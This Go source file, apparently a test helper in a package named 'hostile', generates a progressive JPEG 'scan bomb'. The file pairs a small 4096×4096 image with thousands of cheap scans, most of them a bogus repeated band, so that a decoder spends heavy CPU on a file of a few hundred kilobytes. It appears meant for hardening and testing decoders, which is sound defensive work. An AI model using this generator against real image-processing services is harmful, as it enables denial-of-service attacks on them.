package hostile

import "encoding/binary"

// Scan bomb geometry: a 4096×4096 grayscale image, 16.7 megapixels (under
// the default max_pixels of 40 M), so that every scan walks 262,144 blocks
// while costing the sender a few dozen bytes.
const (
	bombSide = 4096
	// maxEOBRun is the longest end-of-band run one symbol can code
	// (EOB14 and 14 extra bits).
	maxEOBRun = 1<<15 - 1
	// validScans is how many scans a legal progression of one component
	// can have here: the DC scan, then per AC coefficient a first scan at
	// Al=13 and 13 refinements down to Al=0.
	validScans = 1 + 63*14
)

// ScanBombJPEG returns a progressive JPEG (SOF2) of 4096×4096 grayscale
// pixels, all zero, in scans scans (at least 1): the DC scan, then AC
// scans that code every block as one end-of-band run. The first 883 scans
// follow a legal successive-approximation progression (one coefficient per
// scan, Al from 13 down to 0), so any decoder decodes such a file without
// a warning; the scans after that repeat the full AC band, which a decoder
// still has to read block by block. Each scan costs 39 bytes and the
// decoder a pass over all 262,144 blocks (8000 scans: 312 KB).
func ScanBombJPEG(scans int) []byte { return ScanBombJPEGSized(bombSide, scans) }

// ScanBombJPEGSized is ScanBombJPEG for a side×side image (side in
// 1..65535), for tests that want the scans without the cost of a large
// image.
func ScanBombJPEGSized(side, scans int) []byte {
	blocks := ((side + 7) / 8) * ((side + 7) / 8)
	out := []byte{0xff, 0xd8}
	out = appendDQT(out)
	out = appendSegment(out, 0xc2, []byte{8, byte(side >> 8), byte(side), byte(side >> 8), byte(side), 1, 1, 0x11, 0})
	out = appendDHT(out)
	out = appendScan(out, 0, 0, 0, 0, dcData(blocks))
	ac := acData(blocks)
	for i := 1; i < scans; i++ {
		ss, se, ah, al := progression(i)
		out = appendScan(out, ss, se, ah, al, ac)
	}
	return append(out, 0xff, 0xd9)
}

// progression is the band and successive approximation of scan i >= 1.
func progression(i int) (ss, se, ah, al byte) {
	if i >= validScans {
		return 1, 63, 0, 0 // the whole band again: a bogus progression
	}
	k, step := (i-1)/14+1, (i-1)%14
	if step == 0 {
		return byte(k), byte(k), 0, 13
	}
	return byte(k), byte(k), byte(14 - step), byte(13 - step)
}

func appendSegment(out []byte, marker byte, body []byte) []byte {
	out = append(out, 0xff, marker)
	out = binary.BigEndian.AppendUint16(out, uint16(len(body)+2))
	return append(out, body...)
}

// appendDQT writes quantisation table 0, all ones.
func appendDQT(out []byte) []byte {
	body := make([]byte, 65)
	for i := 1; i < len(body); i++ {
		body[i] = 1
	}
	return appendSegment(out, 0xdb, body)
}

// appendDHT writes DC table 0 with the one symbol 0 (difference 0) coded
// as the bit 0, and AC table 0 with the 15 end-of-band symbols EOB0 to
// EOB14 (0x00, 0x10, ... 0xe0), EOBr coded as r in 4 bits.
func appendDHT(out []byte) []byte {
	dc := make([]byte, 1+16+1)
	dc[0], dc[1] = 0x00, 1
	ac := make([]byte, 1+16+15)
	ac[0], ac[4] = 0x10, 15
	for r := range 15 {
		ac[17+r] = byte(r << 4)
	}
	return appendSegment(out, 0xc4, append(dc, ac...))
}

func appendScan(out []byte, ss, se, ah, al byte, data []byte) []byte {
	out = appendSegment(out, 0xda, []byte{1, 1, 0x00, ss, se, ah<<4 | al})
	return append(out, data...)
}

// dcData codes a zero DC difference for every block.
func dcData(blocks int) []byte {
	var w jpegBits
	for range blocks {
		w.put(0, 1)
	}
	return w.flush()
}

// acData codes every block as part of end-of-band runs, the longest runs
// first.
func acData(blocks int) []byte {
	var w jpegBits
	for n := blocks; n > 0; {
		run := min(n, maxEOBRun)
		r := 0
		for 1<<(r+1) <= run {
			r++
		}
		w.put(uint32(r), 4)
		w.put(uint32(run-1<<r), uint(r))
		n -= run
	}
	return w.flush()
}
